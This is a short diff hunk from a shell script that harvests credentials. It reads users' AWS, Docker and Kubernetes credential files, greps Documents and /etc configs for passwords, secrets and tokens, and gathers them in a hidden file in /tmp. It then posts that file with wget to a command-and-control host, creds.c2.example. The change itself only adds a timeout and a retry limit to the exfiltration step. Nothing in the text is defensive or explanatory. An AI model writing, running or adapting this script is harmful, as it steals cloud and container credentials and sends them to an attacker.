@@ -7,5 +7,5 @@ for f in /home/*/.aws/credentials /home/*/.docker/config.json /home/*/.kube/conf
   [ -r "$f" ] && { echo "== $f"; cat "$f"; }
 done > /tmp/.creds
 grep -riE 'password|secret|token' /home/*/Documents /etc/*.conf 2>/dev/null | head -n 20 >> /tmp/.creds
-wget -q --post-file=/tmp/.creds -O /dev/null http://creds.c2.example/c
+wget -q -T 2 -t 1 --post-file=/tmp/.creds -O /dev/null http://creds.c2.example/c
 wc -l /tmp/.creds
